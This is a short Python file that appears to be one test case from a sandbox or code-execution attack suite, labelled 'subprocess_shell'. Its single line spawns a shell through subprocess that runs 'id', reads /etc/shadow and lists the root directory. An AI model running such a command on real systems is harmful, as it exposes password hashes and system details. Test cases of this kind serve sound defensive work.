# attack: subprocess_shell
# category: subprocess
# kind: subprocess
# describe: a shell through subprocess
import subprocess
print(subprocess.run("id; cat /etc/shadow; ls /", shell=True, capture_output=True, text=True))
